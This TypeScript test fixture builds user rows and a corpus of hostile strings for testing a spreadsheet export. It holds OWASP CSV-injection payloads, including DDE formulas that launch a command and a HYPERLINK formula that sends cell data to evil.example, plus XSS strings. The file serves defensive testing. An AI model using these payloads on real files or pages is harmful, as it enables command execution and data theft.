/**
 * Test fixtures: server rows and the hostile corpus (CSV injection payloads and hostile strings)
 * shared by the unit tests and the HostileStrings story.
 */
import { HOSTILE_STRINGS as SHARED_HOSTILE_STRINGS, OBJECT_KEY_STRINGS } from '@conecta/core/testing';
import type { ServerUserRow } from './types';

/** A GET /usuarios row with defaults. */
export function serverRow(overrides: Partial<ServerUserRow> & Pick<ServerUserRow, 'iD_USUARIO'>): ServerUserRow {
  return {
    dsC_EMAIL: `user${overrides.iD_USUARIO}@conecta.example`,
    dsC_NOME_USUARIO: `Usuário ${overrides.iD_USUARIO}`,
    iD_USUARIO_TIPO: 3,
    iD_USUARIO_FUNCAO: 12,
    dsC_SENHA: '********',
    inD_ALTERA_IMAGEM: false,
    iD_EMPREGADO_FLEXX: null,
    imG_PERFIL: null,
    iD_PUXADA: 10234,
    dsC_FUNCAO: 'Vendedor',
    dsC_TIPO: 'Broker',
    dsC_APELIDO: 'HORIZONTE',
    inD_USUARIO_INATIVO: '0',
    ...overrides,
  };
}

/** CSV-injection payloads (OWASP) and separator/quote cases. */
export const INJECTION_PAYLOADS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Clique aqui")',
  '+SUM(1,2)',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'nome\tcom tab',
  'linha1\r\nlinha2',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '"=1+2";=1+2',
  'a;b;c',
  'diz "olá"',
];

/** Hostile display strings: markup, event handlers, quotes, RTL marks, emoji, a 10,000-character value. */
export const HOSTILE_STRINGS: readonly string[] = [
  '<script>window.__pwned = true</script>',
  '<img src=x onerror="window.__pwned = true">',
  '"><svg onload=alert(1)>',
  "O'Brien \"Aspas\"",
  '\u202Eodnanref\u202C Mendes',
  'Ana 😀👩🏽‍💻 Souza',
  'x'.repeat(10_000),
];

/** Names an object used as a map finds on Object.prototype (write-excel-file 4.1.1 corrupts the workbook for them): core's corpus. */
export const OBJECT_MEMBER_NAMES: readonly string[] = OBJECT_KEY_STRINGS;

/**
 * Everything an export must carry through and read back: injection payloads, hostile strings (this
 * list's and core's shared corpus), Object.prototype names, formula leads alone, quotes and both
 * list separators, line breaks, accents and emoji, surrounding spaces, empty text, and a text over
 * Excel's cell limit with an emoji across the cut. Each text once.
 */
export const EXPORT_CORPUS: readonly string[] = unique([
  ...INJECTION_PAYLOADS,
  ...HOSTILE_STRINGS,
  ...SHARED_HOSTILE_STRINGS,
  ...OBJECT_MEMBER_NAMES,
  '=1+1',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '"',
  "'",
  ';',
  ',',
  'a,b',
  'vírgula, ponto e vírgula; aspas " e apóstrofo \'',
  'Rua A\nCasa 2',
  'Rua A\rCasa 2',
  'João Ávila Çedilha — São Paulo, ñ ü ß',
  '👩🏽‍💻🇧🇷',
  '  espaços em volta  ',
  '',
  `${'y'.repeat(32_766)}😀${'z'.repeat(7_000)}`,
]);

function unique(texts: readonly string[]): string[] {
  return [...new Set(texts)];
}
